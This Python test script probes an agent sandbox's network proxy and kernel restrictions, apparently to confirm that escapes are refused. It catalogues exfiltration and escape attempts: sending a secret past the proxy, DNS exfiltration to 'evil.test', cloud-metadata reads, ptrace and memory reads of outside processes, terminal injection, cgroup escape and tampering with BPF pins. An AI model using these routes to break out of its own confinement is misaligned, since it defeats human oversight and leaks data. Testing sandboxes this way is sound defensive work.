"""Tries ways out, each in a process of its own, and says what the kernel answered: one JSON object a line.

usage: escapes.py PARAMETERS-AS-JSON NAME... ; each NAME is a function below. The process is named after it, so that the
receipt can be matched: {"name", "pid", "errno" (0: it worked), "got" (what came back)}.
"""
import ctypes, errno, json, os, socket, struct, sys, time

P = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
MSG_FASTOPEN, TCP_FASTOPEN_CONNECT = 0x20000000, 30
SECRET = b"SECRET"


def check(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "call")
    return result


def syscall(number, *args):
    return check(libc.syscall(number, *[a if isinstance(a, (bytes, ctypes.Array)) else ctypes.c_long(a) for a in args]))


def tcp(addr, port, family=None):
    family = family or (socket.AF_INET6 if ":" in addr else socket.AF_INET)
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect((addr, port))
    return s


def udp(addr):
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.3)
    return s


def ask(s, host):
    s.sendall(b"GET /" + SECRET + b" HTTP/1.1\r\nHost: " + host.encode() + b"\r\nConnection: close\r\n\r\n")
    return s.makefile("rb").read().decode("latin1")


def query(name, kind=1):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00" + struct.pack("!HH", kind, 1)


def answer(data):
    return {"rcode": data[3] & 15, "answers": struct.unpack("!H", data[6:8])[0], "id": data[:2].hex()}


# -- TCP past the proxy
def tcp4(): tcp(P["there4"], 4444).sendall(SECRET)
def tcp6(): tcp(P["there6"], 4444).sendall(SECRET)
def tcp_mapped(): tcp("::ffff:" + P["there4"], 4444).sendall(SECRET)
def tcp_nat64(): tcp("64:ff9b::" + P["there4"], 4444).sendall(SECRET)
def tcp_6to4(): tcp("2002:0a6f:0001::1", 4444).sendall(SECRET)
def tcp_port0(): tcp(P["there4"], 0).sendall(SECRET)
def direct4(): return ask(tcp(P["there4"], 80), P["there4"])
def direct6(): return ask(tcp(P["there6"], 80), "[%s]" % P["there6"])
def direct_mapped(): return ask(tcp("::ffff:" + P["there4"], 80), P["there4"])
def direct_lying_host(): return ask(tcp(P["there4"], 80), "web.test")
def metadata(): return ask(tcp("169.254.169.254", 80), "169.254.169.254")


def tcp_source_port():
    s = socket.socket()
    s.bind(("0.0.0.0", 0))
    s.connect((P["there4"], 4444))


def reconnect():
    """connect(AF_UNSPEC) undoes a connect without running the hook; the next connect has to meet it again."""
    s = tcp(P["there4"], 80)
    check(libc.connect(s.fileno(), struct.pack("H", socket.AF_UNSPEC) + bytes(14), 16))
    s.connect((P["there4"], 4444))


def two_on_one_end():
    """A redirected socket and one to a listener of the agent's own, on one local end: the proxy must not take the first
    for the second. Returns how often both could be begun."""
    own = socket.socket()
    own.bind(("127.0.0.1", 0))
    own.listen(0)
    # Its backlog is full, so what connects to it stays unaccepted.
    waiting = [socket.socket() for _ in range(4)]
    for s in waiting:
        s.setblocking(False)
        s.connect_ex(own.getsockname())
    begun = 0
    for _ in range(50):
        pair = [socket.socket(), socket.socket()]
        for s in pair:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        pair[0].bind(("127.0.0.1", 0))
        pair[1].bind(pair[0].getsockname())
        for s in pair:
            s.setblocking(False)
        answers = [pair[0].connect_ex((P["there4"], 80)), pair[1].connect_ex(own.getsockname())]
        begun += set(answers) <= {0, errno.EINPROGRESS}
        pair[0].settimeout(3)
        ask(pair[0], "web.test")
        for s in pair:
            s.close()
    return begun


def fastopen4(): udp_like(P["there4"])
def fastopen6(): udp_like(P["there6"])


def udp_like(addr):
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(2)
    s.sendto(SECRET, MSG_FASTOPEN, (addr, 4444))


def fastopen_connect():
    s = socket.socket()
    s.settimeout(2)
    s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
    s.connect((P["there4"], 4444))
    s.send(SECRET)


# -- sockets bound to a device: the proxy's address would be looked for there
def bound(kind, addr=None):
    addr = addr or P["there4"]
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, kind)
    s.settimeout(1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, P["device"].encode())
    return s


def device_tcp(): bound(socket.SOCK_STREAM).connect((P["there4"], 80))
def device_tcp6(): bound(socket.SOCK_STREAM, P["there6"]).connect((P["there6"], 80))
def device_udp(): bound(socket.SOCK_DGRAM).sendto(query("web.test"), (P["there4"], 53))
def device_probe(): bound(socket.SOCK_DGRAM).connect((P["there4"], 4444))


def device_later():
    s = tcp(P["there4"], 80)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, P["device"].encode())
    s.send(SECRET)
    s.settimeout(0.5)
    return s.recv(100)


def device_ancillary():
    s = udp(P["there4"])
    info = struct.pack("i4s4s", socket.if_nametoindex(P["device"]), bytes(4), bytes(4))
    s.sendmsg([query("web.test")], [(socket.IPPROTO_IP, 8, info)], 0, (P["there4"], 53))
    s.recv(512)


def device_unicast():
    s = udp(P["there4"])
    s.setsockopt(socket.IPPROTO_IP, 50, struct.pack("!I", socket.if_nametoindex(P["device"])))
    s.sendto(query("web.test"), (P["there4"], 53))
    s.recv(512)


# -- UDP
def udp4(): udp(P["there4"]).sendto(SECRET, (P["there4"], 4444))
def udp6(): udp(P["there6"]).sendto(SECRET, (P["there6"], 4444))
def udp_mapped(): udp("::").sendto(SECRET, ("::ffff:" + P["there4"], 4444))
def udp_quic(): udp(P["there4"]).sendto(SECRET, (P["there4"], 443))
def udp_multicast(): udp("0.0.0.0").sendto(SECRET, ("224.0.0.251", 5353))
def udp_multicast6(): udp("::").sendto(SECRET, ("ff02::fb", 5353, 0, P["scope"]))


def udp_broadcast():
    s = udp("0.0.0.0")
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(SECRET, ("255.255.255.255", 4444))


# -- groups: the kernel itself tells the network who joined which
def index(): return socket.if_nametoindex(P["device"])
def group4(number): return socket.inet_aton("239.77.88.%d" % number)
def group6(number): return socket.inet_pton(socket.AF_INET6, "ff15::7788:%d" % number)
def named(addr):
    short = struct.pack("=HH", socket.AF_INET, 0) + addr
    long = struct.pack("=HHI", socket.AF_INET6, 0, 0) + addr
    return (short if len(addr) == 4 else long).ljust(128, b"\0")


def join(level, option, value, family=None):
    family = family or (socket.AF_INET if level == socket.IPPROTO_IP else socket.AF_INET6)
    for _ in range(2):
        s = socket.socket(family, socket.SOCK_DGRAM)
        try:
            s.setsockopt(level, option, value)
        except OSError:
            # Again on the same socket: counted, and no receipt of its own.
            s.setsockopt(level, option, value)
        time.sleep(0.1)


def join4(): join(0, 35, group4(1) + bytes(4) + struct.pack("i", index()))
def join4_on6(): join(0, 35, group4(2) + bytes(4) + struct.pack("i", index()), socket.AF_INET6)
def join4_source(): join(0, 39, group4(3) + socket.inet_aton(P["here4"]) + socket.inet_aton(P["there4"]))
def join4_group(): join(0, 42, struct.pack("=II", index(), 0) + named(group4(4)))
def join4_group_src(): join(0, 46, struct.pack("=II", index(), 0) + named(group4(5)) + named(socket.inet_aton(P["there4"])))
def filter4(): join(0, 41, group4(6) + socket.inet_aton(P["here4"]) + struct.pack("II", 0, 0))
def join6(): join(41, 20, group6(1) + struct.pack("i", index()))
def join6_group(): join(41, 42, struct.pack("=II", index(), 0) + named(group6(2)))
def join6_group_src():
    source = socket.inet_pton(socket.AF_INET6, P["there6"])
    join(41, 46, struct.pack("=II", index(), 0) + named(group6(3)) + named(source))
def anycast(): join(41, 27, socket.inet_pton(socket.AF_INET6, P["here6"][:-1]) + struct.pack("i", index()))
def join_short(): join(0, 35, b"\0\0")


def option_sizes():
    """What is refused is refused, what is let through works as it does without us: a value longer than a page too."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 70000)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, struct.pack("i", 50000).ljust(5000, b"\0"))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    options = [socket.SO_RCVBUF, socket.SO_SNDBUF, socket.SO_BROADCAST]
    return [s.getsockopt(socket.SOL_SOCKET, option) for option in options]


def udp_connected():
    s = udp(P["there4"])
    s.connect((P["there4"], 4444))
    s.send(SECRET)


def udp_connected6():
    s = udp(P["there6"])
    s.connect((P["there6"], 4444))
    s.send(SECRET)


def udp_ancillary():
    s = udp(P["there4"])
    info = struct.pack("i4s4s", 0, bytes(4), bytes(4))
    s.sendmsg([SECRET], [(socket.IPPROTO_IP, 8, info)], 0, (P["there4"], 4444))


def udp_redirected_then_elsewhere():
    """A socket that carries a flow to our resolver must not carry datagrams anywhere else."""
    s = udp(P["there4"])
    s.sendto(query("web.test"), (P["there4"], 53))
    s.recv(512)
    s.sendto(SECRET, (P["there4"], 4444))


def udp_redirected_then_connected():
    """A connect asks nobody about the sends that follow it: what was redirected before must not vouch for them."""
    s = udp(P["there4"])
    s.sendto(query("web.test"), (P["there4"], 53))
    s.recv(512)
    s.connect((P["there4"], 4444))
    s.send(SECRET)


def udp6_redirected_then_connected():
    s = udp(P["there6"])
    s.sendto(query("web.test"), (P["there6"], 53))
    s.recv(512)
    s.connect((P["there6"], 4444))
    s.send(SECRET)


def host_udp_after_dns():
    """The same, to a service of the host on loopback."""
    s = udp("127.0.0.1")
    s.sendto(query("web.test"), ("127.0.0.53", 53))
    s.recv(512)
    s.connect(("127.0.0.1", P["hostudp"]))
    s.send(SECRET)


def host_udp_then_dns(): host_udp_around_dns("127.0.0.1", "127.0.0.53", P["hostudp"])
def host_udp6_then_dns(): host_udp_around_dns("::1", P["there6"], P["hostudp6"])
def host_udp_own_then_dns(): host_udp_around_dns(P["here4"], P["there4"], P["hostudp"])


def host_udp_around_dns(host, server, port):
    """The other way round: the socket stays connected to the host's service while it asks the resolver."""
    s = udp(host)
    s.connect((host, port))
    s.sendto(query("web.test"), (server, 53))
    s.send(SECRET)


# -- DNS to a server of the agent's own choice
def dns4(): return dns(P["there4"])
def dns6(): return dns(P["there6"])


def dns(addr):
    s = udp(addr)
    s.sendto(query("web.test"), (addr, 53))
    data, peer = s.recvfrom(512)
    allowed = answer(data)
    s.sendto(query(SECRET.decode() + ".evil.test"), (addr, 53))
    return {"allowed": allowed, "denied": answer(s.recv(512)), "peer": peer[0]}


def dns_connected():
    s = udp(P["there4"])
    s.connect((P["there4"], 53))
    s.send(query("evil.test"))
    return answer(s.recv(512))


def dns_tcp():
    s = tcp(P["there4"], 53)
    q = query("evil.test")
    s.sendall(struct.pack("!H", len(q)) + q)
    return answer(s.recv(1024)[2:])


# -- other protocols
def proto(kind, number, family=socket.AF_INET):
    socket.socket(family, kind, number)


def raw_icmp(): proto(socket.SOCK_RAW, 1)
def raw_ip(): proto(socket.SOCK_RAW, 255)
def raw_tcp6(): proto(socket.SOCK_RAW, 6, socket.AF_INET6)
def packet_inet(): proto(10, 0x0300)
def icmp(): proto(socket.SOCK_DGRAM, 1)
def icmp6(): proto(socket.SOCK_DGRAM, 58, socket.AF_INET6)
def mptcp(): proto(socket.SOCK_STREAM, 262)
def mptcp6(): proto(socket.SOCK_STREAM, 262, socket.AF_INET6)
def sctp(): proto(socket.SOCK_STREAM, 132)
def sctp_many(): proto(socket.SOCK_SEQPACKET, 132)
def udplite(): proto(socket.SOCK_DGRAM, 136)
def udplite6(): proto(socket.SOCK_DGRAM, 136, socket.AF_INET6)
def dccp(): proto(6, 33)
def l2tp(): proto(socket.SOCK_DGRAM, 115)


# -- other families
def family(number, kind=socket.SOCK_DGRAM, protocol=0):
    fd = check(libc.socket(number, kind, protocol))
    os.close(fd)


def packet(): family(17, socket.SOCK_RAW, 0x0300)
def packet_dgram(): family(17)
def vsock(): family(40, socket.SOCK_STREAM)
def xdp(): family(44, socket.SOCK_RAW)
def alg(): family(38, socket.SOCK_SEQPACKET)
def key(): family(15, socket.SOCK_RAW, 2)
def can(): family(29, socket.SOCK_RAW, 1)
def bluetooth(): family(31, socket.SOCK_RAW, 1)
def rds(): family(21, socket.SOCK_SEQPACKET)
def tipc(): family(30)
def smc(): family(43, socket.SOCK_STREAM)
def rxrpc(): family(33)
def qrtr(): family(42)
def netlink_diag(): family(16, socket.SOCK_RAW, 4)
def netlink_netfilter(): family(16, socket.SOCK_RAW, 12)
def netlink_route(): family(16, socket.SOCK_RAW, 0)


# -- loopback services of the host
def host_loopback4(): tcp("127.0.0.1", P["host4"])
def host_loopback_other(): tcp("127.0.0.2", P["host4"])
def host_loopback6(): tcp("::1", P["host6"])
def host_any4(): tcp("0.0.0.0", P["host4"])
def host_any6(): tcp("::", P["host6"])
def host_mapped(): tcp("::ffff:127.0.0.1", P["host4"])
def host_own4(): tcp(P["here4"], P["host4"])
def host_own6(): tcp(P["here6"], P["host6"])
def host_fastopen():
    s = socket.socket()
    s.sendto(SECRET, MSG_FASTOPEN, ("127.0.0.1", P["host4"]))
def host_udp(): udp("127.0.0.1").sendto(SECRET, ("127.0.0.1", P["hostudp"]))
def host_udp_own(): udp("127.0.0.1").sendto(SECRET, (P["here4"], P["hostudp"]))
def host_udp_connected():
    s = udp("127.0.0.1")
    s.connect(("127.0.0.1", P["hostudp"]))
    s.send(SECRET)
def proxy_itself():
    """The transparent port is in the redirected socket's own tables; a direct connect is loopback and not the agent's."""
    s = tcp(P["there4"], 80)
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        local, remote, state = line.split()[1:4]
        if state == "0A":
            port = int(local.split(":")[1], 16)
            try:
                tcp("127.0.0.1", port).sendall(SECRET)
                return port
            except OSError as e:
                if e.errno != errno.ECONNREFUSED:
                    raise
    raise OSError(errno.ECONNREFUSED, "all refused")


# -- listening
def bind_own4(): socket.socket().bind((P["here4"], 0))
def bind_own6(): socket.socket(socket.AF_INET6).bind((P["here6"], 0))
def bind_udp(): udp("127.0.0.1").bind((P["here4"], 0))


# -- system calls (x86_64 and aarch64 share the numbers from 424 on)
X86 = os.uname().machine == "x86_64"
def io_uring(): syscall(425, 8, ctypes.create_string_buffer(256))
def pidfd_getfd(): syscall(438, syscall(434, P["outside"], 0), 1, 0)
def open_tree(): syscall(428, -100, b"/", 1)
def fsopen(): syscall(430, b"tmpfs", 0)
def clone3(): syscall(435, ctypes.create_string_buffer(88), 88)
def x32_socket(): syscall(0x40000000 + 41, 2, 1, 0) if X86 else deny(errno.ENOSYS)
def bpf(): syscall(321 if X86 else 280, 0, ctypes.create_string_buffer(128), 128)
def perf(): syscall(298 if X86 else 241, ctypes.create_string_buffer(128), 0, -1, -1, 0)
def keyctl(): syscall(250 if X86 else 219, 0, -3, 0)
def unshare_net(): check(libc.unshare(0x40000000))
def unshare_user_net(): check(libc.unshare(0x50000000))
def setns(): check(libc.setns(os.open("/proc/self/ns/net", os.O_RDONLY), 0))
def mount(): check(libc.mount(b"none", b"/mnt", b"tmpfs", 0, None))
def ptrace_outside(): check(libc.ptrace(16, P["outside"], 0, 0))
def kill_outside(): os.kill(P["outside"], 0)
def read_outside(): os.readlink("/proc/%d/fd/0" % P["outside"])
def vm_read_outside():
    buffer = ctypes.create_string_buffer(8)
    vec = struct.pack("QQ", ctypes.addressof(buffer), 8)
    check(libc.process_vm_readv(P["outside"], vec, 1, struct.pack("QQ", P["outside_addr"], 8), 1, 0))
def mark(): socket.socket().setsockopt(socket.SOL_SOCKET, 36, 1)
def transparent(): socket.socket().setsockopt(socket.IPPROTO_IP, 19, 1)
def bind_device_any(): socket.socket().setsockopt(socket.SOL_SOCKET, 33, 1)
def tiocsti():
    import fcntl
    fcntl.ioctl(0, 0x5412, b"x")


def leave_cgroup():
    for line in open("/proc/self/mountinfo"):
        head, tail = line.split(" - ")
        if tail.split()[0] == "cgroup2":
            with open(head.split()[4] + "/cgroup.procs", "w") as f:
                f.write(str(os.getpid()))
            return
    deny(errno.EROFS)


def child_cgroup():
    for line in open("/proc/self/mountinfo"):
        head, tail = line.split(" - ")
        if tail.split()[0] == "cgroup2":
            os.mkdir(head.split()[4] + "/pl-escape")
            return
    deny(errno.EROFS)


def bpffs():
    """Pins are what keeps the programs attached when the proxy dies; the folder must not be ours to change."""
    os.mkdir("/sys/fs/bpf/pipelock/pl-escape")
    os.rmdir("/sys/fs/bpf/pipelock/pl-escape")


def bpffs_unlink():
    for folder, _, names in os.walk("/sys/fs/bpf/pipelock"):
        # Truly removing one would break other runs; changing its mode takes the same right.
        for name in names:
            os.chmod(os.path.join(folder, name), 0o600)
            return
    deny(errno.EROFS)


def abstract():
    s = socket.socket(socket.AF_UNIX)
    s.connect("\0" + P["abstract"])


def deny(number):
    raise OSError(number, "no such thing here")


def attempt(name):
    got, number = None, 0
    try:
        got = globals()[name]()
    except OSError as e:
        number, got = e.errno or (errno.ETIMEDOUT if isinstance(e, TimeoutError) else -1), str(e)
    except Exception as e:
        number, got = -2, repr(e)
    print(json.dumps({"name": name, "pid": os.getpid(), "errno": number, "got": got}), flush=True)


def main():
    for name in sys.argv[2:]:
        sys.stdout.flush()
        child = os.fork()
        if child == 0:
            with open("/proc/self/comm", "w") as comm:
                comm.write(name[:15])
            attempt(name)
            os._exit(0)
        _, status = os.waitpid(child, 0)
        if status:
            print(json.dumps({"name": name, "pid": child, "errno": -3, "got": "status %d" % status}), flush=True)


if __name__ == "__main__":
    main()
